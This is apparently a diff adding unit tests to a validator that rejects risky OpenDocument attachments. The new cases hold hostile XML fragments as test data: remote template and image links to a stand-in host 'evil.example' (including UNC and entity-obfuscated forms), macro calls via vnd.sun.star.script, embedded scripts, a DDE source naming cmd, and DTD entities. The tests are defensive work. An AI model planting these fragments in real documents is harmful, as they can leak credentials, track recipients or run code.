@@ -94,6 +94,50 @@ test.each([
   ['a template beside it', relation('attachedTemplate', 'Brief.dotx')],
 ])('Word with %s', async (_what, rels) => expect(await attachmentEnding(await related(rels), 'a.docx')).toBe('docx'))
 
+const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
+const odf = (element: string) => anOdt({ 'content.xml': `<?xml version="1.0"?><x ${XLINK}>${element}</x>` })
+test.each([
+  ['a remote template', '<meta:template xlink:href="https://evil.example/t.ott" xlink:actuate="onRequest"/>'],
+  ['a template of another computer', '<meta:template xlink:href="file://evil.example/t.ott"/>'],
+  ['a template behind two slashes', '<meta:template xlink:href="\\\\evil.example\\t.ott"/>'],
+  ['a template behind four slashes', '<meta:template xlink:href="file:////evil.example/t.ott"/>'],
+  ['a remote picture', '<draw:image xlink:href="https://evil.example/p.png"/>'],
+  ['a remote picture under another prefix', "<d:image q:href = 'https://evil.example/p.png'/>"],
+  ['a remote picture in entities', '<draw:image xlink:href="&#104;ttps://evil.example/p.png"/>'],
+  ['a remote section', '<text:section-source xlink:href="http://evil.example/s.odt"/>'],
+  ['a remote font', '<svg:font-face-uri xlink:href="https://evil.example/f.ttf"/>'],
+  [
+    'a macro of the machine',
+    '<script:event-listener xlink:href="vnd.sun.star.script:../../x.py$run?language=Python"/>',
+  ],
+  ['a link that calls a macro', '<text:a xlink:href="vnd.sun.star.script:x.y?language=Basic">a</text:a>'],
+  ['a script', '<office:script script:language="ooo:script">x</office:script>'],
+  ['a table of another program', '<office:dde-source office:dde-application="cmd"/>'],
+  ['definitions of entities', '<!DOCTYPE x [<!ENTITY e "https://evil.example">]>'],
+])('not OpenDocument with %s', async (_what, element) =>
+  expect(await attachmentEnding(await odf(element), 'a.odt')).toBeUndefined(),
+)
+
+test('not OpenDocument with a remote template in its properties or in an object', async () => {
+  const template = '<meta:template xlink:href="https://evil.example/t.ott"/>'
+  for (const part of ['meta.xml', 'styles.xml', 'Object 1/content.xml'])
+    expect(await attachmentEnding(await anOdt({ [part]: template }), 'a.odt')).toBeUndefined()
+})
+
+test.each([
+  ['links', '<text:a xlink:href="https://example.com">a</text:a><draw:a xlink:href="mailto:a@example.com"/>'],
+  ['its own pictures', '<draw:image xlink:href="Pictures/1000.png"/><draw:object xlink:href="./Object 1"/>'],
+  ['a template of its author', '<meta:template xlink:href="file:///home/anna/Brief.ott"/>'],
+  ['a template beside it', '<meta:template xlink:href="../Vorlagen/Brief.ott"/>'],
+  ['an empty list of scripts', '<office:scripts/><presentation:event-listener xlink:href="#Seite 2"/>'],
+])('OpenDocument with %s', async (_what, element) =>
+  expect(await attachmentEnding(await odf(element), 'a.odt')).toBe('odt'),
+)
+
+test('OpenDocument with more text than is read is damaged', async () => {
+  expect(await attachmentEnding(await anOdt({ 'content.xml': ' '.repeat(60_000_001) }), 'a.odt')).toBe('damaged')
+})
+
 test('Word with a chart and its table', async () =>
   expect(await attachmentEnding(await anOffice('docx', { 'word/embeddings/Tabelle1.xlsx': 'x' }), 'a')).toBe('docx'))
 
